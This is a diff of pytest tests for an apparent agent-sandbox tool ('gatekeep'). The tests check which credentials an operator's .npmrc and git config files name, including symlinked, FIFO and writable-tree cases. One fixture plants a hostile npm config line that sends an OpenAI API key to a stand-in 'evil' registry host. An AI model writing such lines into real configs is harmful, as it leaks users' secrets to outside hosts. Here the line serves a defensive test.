@@ -12,7 +12,7 @@ import pytest
 from gatekeep.policy.load import load_knowledge_default, load_policy
 from gatekeep.runtime import execute
 from gatekeep.sandbox import plan, wire
-from gatekeep.sandbox.boundary import Boundary, boundary, credentials
+from gatekeep.sandbox.boundary import GIT_CONFIGS, Boundary, Where, boundary, credentials
 from gatekeep.sandbox.bwrap import box_env, kept, removed
 from gatekeep.sandbox.policy import credentials_for, spec_for
 from gatekeep.sandbox.spec import Limits, Spec, kept_name, secret_name
@@ -92,15 +92,49 @@ def test_a_kept_entry_is_a_name_or_a_prefix(kept_as: str, name: str, keeps: bool
     assert kept_name(name, (kept_as,)) is keeps
 
 
+def _where(home: Path | str, git_configs: tuple[str, ...] = ()) -> Where:
+    return Where("/nowhere", str(home), (), (), git_configs=git_configs)
+
+
 def test_the_operators_config_names_what_its_program_sends(tmp_path: Path) -> None:
     home = tmp_path / "home"
     home.mkdir()
     (home / ".npmrc").write_text(
         "//npm.corp.example/:_authToken=${CORP_NPM_TOKEN}\nemail=$MAIL_ADDRESS\n"
         "x=${1BAD} $ ${} $$ ${lower_ok}\n")
-    found = credentials(("NPM_TOKEN", "~/.npmrc", "~/.absent"), str(home))
+    found = credentials(("NPM_TOKEN", "~/.npmrc", "~/.absent"), _where(home), [])
     assert found == ("NPM_TOKEN", "CORP_NPM_TOKEN", "MAIL_ADDRESS", "lower_ok")
-    assert credentials(("~/.npmrc",), "") == ()  # no home: no file of the operator's
+    assert credentials(("~/.npmrc",), _where(""), []) == ()  # no home: no file of its own
+
+
+def test_a_file_the_box_could_write_names_nothing(tmp_path: Path) -> None:
+    """In the tree, or reached through a link into it: the agent chose what it names."""
+    home, tree = tmp_path / "home", tmp_path / "tree"
+    home.mkdir()
+    tree.mkdir()
+    (tree / "npmrc").write_text("//evil/:_authToken=${OPENAI_API_KEY}\n")
+    (home / ".npmrc").symlink_to(tree / "npmrc")
+    assert credentials(("NPM_TOKEN", "~/.npmrc"), _where(home), [str(tree)]) == ("NPM_TOKEN",)
+    assert credentials(("~/.npmrc",), _where(home), []) == ("OPENAI_API_KEY",)
+
+
+def test_a_fifo_names_nothing_and_holds_nothing(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    home.mkdir()
+    os.mkfifo(home / ".npmrc")
+    assert credentials(("~/.npmrc",), _where(home), []) == ()  # returns: no reader blocks
+
+
+def test_the_git_configs_name_what_git_keeps(tmp_path: Path) -> None:
+    """As git finds them: the XDG one, and what it includes."""
+    home, xdg = tmp_path / "home", tmp_path / "xdg" / "git"
+    home.mkdir()
+    xdg.mkdir(parents=True)
+    (xdg / "config").write_text("[include]\n\tpath = creds\n")
+    (xdg / "creds").write_text('[credential]\n\thelper = "!f() { echo password=$CORP; }; f"\n')
+    where = _where(home, (str(home / ".gitconfig"), str(xdg / "config")))
+    assert credentials(("GH_TOKEN", GIT_CONFIGS), where, []) == ("GH_TOKEN", "CORP")
+    assert credentials((GIT_CONFIGS,), where, [str(xdg)]) == ()  # a box writes them
 
 
 def test_the_operators_knowledge_says_what_each_program_keeps(tmp_path: Path) -> None:
